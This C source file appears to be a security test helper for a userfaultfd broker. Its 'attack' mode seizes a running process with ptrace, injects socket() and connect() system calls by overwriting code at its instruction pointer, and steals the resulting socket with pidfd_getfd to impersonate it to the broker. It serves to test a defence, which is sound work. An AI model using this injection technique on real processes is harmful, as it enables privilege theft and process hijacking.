/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Test helper: a process of the QEMU uid makes a granted QEMU connect to the broker (ptrace) and takes the socket (pidfd_getfd). */
/*
 * usage: ptrace-steal victim
 *          A granted QEMU, idle and dumpable (as libvirt's QEMUs are):
 *          prints "ready pid=N" and waits. On SIGUSR1 it asks for a
 *          userfaultfd the way a well-behaved client does (libuffd-shim)
 *          and prints "uffd: ok" or "uffd: reason N", then waits again;
 *          SIGTERM ends it.
 *        ptrace-steal attack PID SOCKET [--detach]
 *          Run as the QEMU uid: attaches to PID (PTRACE_SEIZE), makes it
 *          create a SOCK_SEQPACKET socket and connect it to SOCKET (system
 *          calls injected at its instruction pointer), copies that socket
 *          with pidfd_getfd(), puts the victim back as it was, and with
 *          --detach lets it go. Then it sends GET_DEVICE on its copy (the
 *          broker sees the victim as the peer: it connected), prints
 *          "status N fd=none|device|other" and lets the victim go;
 *          "attack failed: ..." if a step failed (exit 2).
 * x86_64 only (exit 3 elsewhere).
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "protocol.h"
#include "uffd-shim.h"

#if defined(__x86_64__)
#include <sys/ptrace.h>
#include <sys/user.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static volatile sig_atomic_t asked;

static void
on_usr1 (int sig)
{
    asked = 1;
}

static int
victim (void)
{
    sigset_t none;

    signal (SIGUSR1, on_usr1);
    /* Whatever Yama says, any process of this uid may attach: the test is
     * about a host where QEMUs can ptrace each other. */
    prctl (PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
    prctl (PR_SET_DUMPABLE, 1, 0, 0, 0);
    printf ("ready pid=%d\n", (int) getpid ());
    fflush (stdout);
    sigemptyset (&none);
    for (;;) {
        int reason = 0, uffd;

        while (!asked)
            sigsuspend (&none);
        asked = 0;
        uffd = uffd_shim_userfaultfd (O_CLOEXEC, UFFD_SHIM_OPT_BROKER_ONLY, &reason);
        if (uffd >= 0)
            printf ("uffd: ok\n");
        else
            printf ("uffd: reason %d\n", reason);
        fflush (stdout);
        if (uffd >= 0)
            close (uffd);
    }
    return 0;
}

static int
fail (const char *what)
{
    printf ("attack failed: %s: %s\n", what, strerror (errno));
    return 2;
}

/* Runs system call @nr in the stopped @pid at @at (where a syscall
 * instruction was put), starting from the registers @saved. */
static long
inject (pid_t pid, const struct user_regs_struct *saved, unsigned long at, long nr, long a0,
        long a1, long a2)
{
    struct user_regs_struct r = *saved;
    int status;

    r.rax = (unsigned long) nr;
    r.orig_rax = (unsigned long) -1; /* no system call restart on the way */
    r.rdi = (unsigned long) a0;
    r.rsi = (unsigned long) a1;
    r.rdx = (unsigned long) a2;
    r.rip = at;
    if (ptrace (PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace (PTRACE_SINGLESTEP, pid, 0, 0) < 0)
        return -errno;
    if (waitpid (pid, &status, __WALL) < 0 || !WIFSTOPPED (status))
        return -ECHILD;
    if (ptrace (PTRACE_GETREGS, pid, 0, &r) < 0)
        return -errno;
    return (long) r.rax;
}

static int
attack (pid_t pid, const char *path, int detach)
{
    struct user_regs_struct saved;
    struct sockaddr_un sa = { .sun_family = AF_UNIX };
    struct uffd_shim_request req = { 0 };
    struct uffd_shim_reply rep = { 0 };
    union {
        char b[CMSG_SPACE (4 * sizeof (int))];
        struct cmsghdr align;
    } ctl;
    struct iovec iov = { .iov_base = &rep, .iov_len = sizeof rep };
    struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl.b,
                          .msg_controllen = sizeof ctl.b };
    unsigned long text, mem;
    long vfd, r, word;
    int status, pidfd, s;
    const char *kind = "none";

    if (strlen (path) >= sizeof sa.sun_path)
        return fail ("socket path");
    strcpy (sa.sun_path, path);
    if (ptrace (PTRACE_SEIZE, pid, 0, 0) < 0)
        return fail ("PTRACE_SEIZE");
    if (ptrace (PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid (pid, &status, __WALL) < 0)
        return fail ("PTRACE_INTERRUPT");
    if (ptrace (PTRACE_GETREGS, pid, 0, &saved) < 0)
        return fail ("PTRACE_GETREGS");
    /* A syscall instruction (0f 05) where the victim stands; the address
     * for the socket below its stack's red zone. */
    errno = 0;
    text = (unsigned long) ptrace (PTRACE_PEEKTEXT, pid, (void *) saved.rip, 0);
    if (errno)
        return fail ("PTRACE_PEEKTEXT");
    if (ptrace (PTRACE_POKETEXT, pid, (void *) saved.rip, (void *) ((text & ~0xffffUL) | 0x050fUL)) < 0)
        return fail ("PTRACE_POKETEXT");
    mem = ((unsigned long) saved.rsp - 4096) & ~15UL;
    for (size_t i = 0; i < sizeof sa; i += sizeof (long)) {
        word = 0;
        memcpy (&word, (char *) &sa + i, sizeof sa - i < sizeof (long) ? sizeof sa - i : sizeof (long));
        if (ptrace (PTRACE_POKEDATA, pid, (void *) (mem + i), (void *) word) < 0)
            return fail ("PTRACE_POKEDATA");
    }
    vfd = inject (pid, &saved, saved.rip, SYS_socket, AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
    if (vfd < 0) {
        errno = (int) -vfd;
        return fail ("injected socket()");
    }
    r = inject (pid, &saved, saved.rip, SYS_connect, vfd, (long) mem, sizeof sa);
    if (r < 0) {
        errno = (int) -r;
        return fail ("injected connect()");
    }
    pidfd = (int) syscall (SYS_pidfd_open, pid, 0);
    s = pidfd < 0 ? -1 : (int) syscall (SYS_pidfd_getfd, pidfd, (int) vfd, 0);
    if (s < 0)
        return fail ("pidfd_getfd");
    /* The victim as it was (its connected socket aside). */
    if (ptrace (PTRACE_POKETEXT, pid, (void *) saved.rip, (void *) text) < 0 ||
        ptrace (PTRACE_SETREGS, pid, 0, &saved) < 0)
        return fail ("restoring the victim");
    if (detach && ptrace (PTRACE_DETACH, pid, 0, 0) < 0)
        return fail ("PTRACE_DETACH");
    printf ("stole fd %ld of pid %d as fd %d (%s)\n", vfd, (int) pid, s,
            detach ? "detached" : "still attached");
    uffd_shim_hdr_init (&req.hdr, UFFD_SHIM_OP_GET_DEVICE, sizeof req, 0);
    if (send (s, &req, sizeof req, MSG_NOSIGNAL) != (ssize_t) sizeof req)
        return fail ("send");
    r = recvmsg (s, &msg, MSG_CMSG_CLOEXEC);
    if (r != (ssize_t) sizeof rep)
        return fail ("recvmsg");
    for (struct cmsghdr *c = CMSG_FIRSTHDR (&msg); c; c = CMSG_NXTHDR (&msg, c)) {
        if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS) {
            struct stat st, dev;
            int fd;

            memcpy (&fd, CMSG_DATA (c), sizeof fd);
            kind = fstat (fd, &st) == 0 && stat ("/dev/userfaultfd", &dev) == 0 &&
                           S_ISCHR (st.st_mode) && st.st_rdev == dev.st_rdev
                       ? "device" : "other";
            close (fd);
        }
    }
    printf ("status %u fd=%s\n", rep.status, kind);
    /* Let go now (with no signal: at its exit a tracer would leave the
     * SIGTRAP of the last step to kill the victim). */
    if (!detach)
        ptrace (PTRACE_DETACH, pid, 0, 0);
    return 0;
}

int
main (int argc, char **argv)
{
    setvbuf (stdout, NULL, _IOLBF, 0);
    if (argc == 2 && strcmp (argv[1], "victim") == 0)
        return victim ();
    if ((argc == 4 || argc == 5) && strcmp (argv[1], "attack") == 0)
        return attack ((pid_t) atoi (argv[2]), argv[3], argc == 5 && strcmp (argv[4], "--detach") == 0);
    fprintf (stderr, "usage: ptrace-steal victim | attack PID SOCKET [--detach]\n");
    return 2;
}
#else
int
main (void)
{
    fprintf (stderr, "ptrace-steal: x86_64 only\n");
    return 3;
}
#endif
